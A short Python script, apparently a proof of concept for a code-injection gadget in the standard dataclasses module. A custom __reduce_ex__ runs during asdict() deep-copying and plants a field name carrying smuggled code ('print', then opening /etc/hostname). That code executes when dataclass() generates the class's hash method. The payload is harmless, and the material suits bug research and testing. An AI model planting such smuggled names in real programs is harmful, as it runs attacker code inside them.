# asdict() deep-copies, and so carries out __reduce_ex__, which sets attributes of a class, in a file without copy.
import dataclasses
class C:
    x = 1
def give():
    return C
class Evil:
    def __reduce_ex__(self, protocol):
        names = {"x, print('REACHED', open('/etc/hostname').readable())": int}
        return give, (), (None, {"__annotations__": names})
@dataclasses.dataclass
class D:
    value: object
dataclasses.asdict(D(Evil()))
dataclasses.dataclass(init=False, repr=False, unsafe_hash=True)(C)
try:
    hash(C())
except (TypeError, AttributeError):
    pass
